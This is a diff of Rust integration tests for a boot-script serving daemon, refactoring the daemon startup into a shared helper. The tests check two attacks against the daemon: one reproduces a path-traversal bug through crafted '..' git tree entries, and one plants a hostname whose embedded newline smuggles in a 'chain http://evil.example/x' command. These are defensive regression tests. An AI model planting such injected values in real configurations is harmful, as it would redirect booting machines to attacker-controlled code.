@@ -63,21 +63,29 @@ fn kiosk_repo(base: &Path) -> std::path::PathBuf {
     repo
 }
 
+/// A daemon on loopback serving [`kiosk_repo`], once it serves kiosk1's script:
+/// (conf repo, HTTP port, daemon log, daemon).
+fn serve_kiosk_repo(base: &Path) -> (std::path::PathBuf, u16, std::path::PathBuf, Daemon) {
+    let repo = kiosk_repo(base);
+    let port = free_port();
+    let log = base.join("daemon.log");
+    let daemon = Daemon::start(&loopback_config(base, port), &log);
+    let served = || get(port, SCRIPT).is_some_and(|b| b.contains("marker=good"));
+    assert!(
+        within(Duration::from_secs(20), served).is_some(),
+        "daemon did not serve"
+    );
+    (repo, port, log, daemon)
+}
+
 /// The reproduction from issue 10: a `machines` tree whose nested `..` entries lead three
 /// levels above the snapshot directory made the daemon write a file there on reload.
 #[test]
 fn crafted_dotdot_tree_entries_write_nothing_and_the_last_good_snapshot_serves() {
     let d = tempfile::tempdir().unwrap();
     let base = d.path();
-    let repo = kiosk_repo(base);
-    let port = free_port();
-    let log = base.join("daemon.log");
-    let _daemon = Daemon::start(&loopback_config(base, port), &log);
+    let (repo, port, log, _daemon) = serve_kiosk_repo(base);
     let served = || get(port, SCRIPT).is_some_and(|b| b.contains("marker=good"));
-    assert!(
-        within(Duration::from_secs(20), served).is_some(),
-        "daemon did not serve"
-    );
 
     let pwn = git_stdin(
         &repo,
@@ -468,15 +476,7 @@ fn the_cli_sees_only_what_is_committed_like_the_daemon() {
 fn a_hostname_with_a_newline_is_refused_and_injects_nothing() {
     let d = tempfile::tempdir().unwrap();
     let base = d.path();
-    let repo = kiosk_repo(base);
-    let port = free_port();
-    let log = base.join("daemon.log");
-    let _daemon = Daemon::start(&loopback_config(base, port), &log);
-    let served = || get(port, SCRIPT).is_some_and(|b| b.contains("marker=good"));
-    assert!(
-        within(Duration::from_secs(20), served).is_some(),
-        "daemon did not serve"
-    );
+    let (repo, port, log, _daemon) = serve_kiosk_repo(base);
     std::fs::write(
         repo.join("machines/kiosk1.toml"),
         "mac = \"52:54:00:00:00:01\"\nhostname = \"kiosk1\\nchain http://evil.example/x\"\nargs = \"marker=evil\"\n",
